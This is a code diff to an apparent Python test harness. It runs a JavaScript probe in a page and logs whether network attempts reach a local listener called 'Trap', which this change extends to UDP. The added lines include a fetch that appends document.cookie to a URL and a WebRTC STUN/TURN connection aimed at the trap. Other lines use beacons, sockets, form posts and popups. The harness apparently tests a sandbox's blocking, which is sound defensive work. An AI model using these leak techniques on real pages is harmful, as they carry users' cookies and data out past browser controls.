@@ -24,7 +24,15 @@ _DEEDS = """
   quietly(() => fetch(own + '/keluar'));
   quietly(() => navigator.sendBeacon(trap + '/beacon', 'isi'));
   quietly(() => {{ new WebSocket(trap.replace('http', 'ws') + '/ws'); }});
-  quietly(() => {{ new EventSource(trap + '/events'); }});
+  quietly(() => {{ new EventSource(own + '/data/kejadian'); }});
+  quietly(async () => {{
+    const at = trap.replace('http://', '');
+    const servers = ['stun:' + at, 'turn:' + at, 'turn:' + at + '?transport=tcp'];
+    const call = new RTCPeerConnection({{ iceServers: servers.map(
+      (urls) => ({{ urls, username: 'a', credential: 'b' }})) }});
+    call.createDataChannel('a');
+    await call.setLocalDescription(await call.createOffer());
+  }});
   quietly(() => {{ new Worker(own + '/data/pekerja.js'); }});
   quietly(() => navigator.serviceWorker.register('/data/pekerja.js'));
   quietly(() => {{ window.open(trap + '/jendela'); }});
@@ -45,7 +53,9 @@ _DEEDS = """
     const form = add('form', {{ action: trap + '/kirim', method: 'post', target: '_blank' }});
     form.submit();
   }});
-  quietly(() => {{ document.cookie = 'jejak=1'; }});
+  quietly(() => fetch(own + '/data/kue?' + document.cookie));
+  quietly(() => {{ document.cookie = 'jejak=1; max-age=86400'; }});
+  quietly(() => {{ new WebSocket(own.replace('http', 'ws') + '/data/ws'); }});
   setTimeout(() => {{ prompt('Sandi?'); confirm('Yakin?'); print(); }}, 10);
   if (location.pathname.startsWith('/read{leaving}/')) location.href = trap + '/pindah';
 }})();
@@ -53,12 +63,15 @@ _DEEDS = """
 
 
 class Trap:
-    """A port of this machine that notes whatever is said to it."""
+    """A port of this machine, TCP and UDP, that notes whatever is said to it."""
 
     def __init__(self) -> None:
         self.heard: list[bytes] = []
         self._socket = socket.create_server(("127.0.0.1", 0))
+        self._packets = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self._packets.bind(self._socket.getsockname())
         threading.Thread(target=self._listen, daemon=True).start()
+        threading.Thread(target=self._receive, daemon=True).start()
 
     @property
     def base(self) -> str:
@@ -67,6 +80,12 @@ class Trap:
     def close(self) -> None:
         self._socket.shutdown(socket.SHUT_RDWR)
         self._socket.close()
+        self._packets.sendto(b"", self._packets.getsockname())
+
+    def _receive(self) -> None:
+        with self._packets:
+            while packet := self._packets.recv(200):
+                self.heard.append(packet)
 
     def _listen(self) -> None:
         while True:
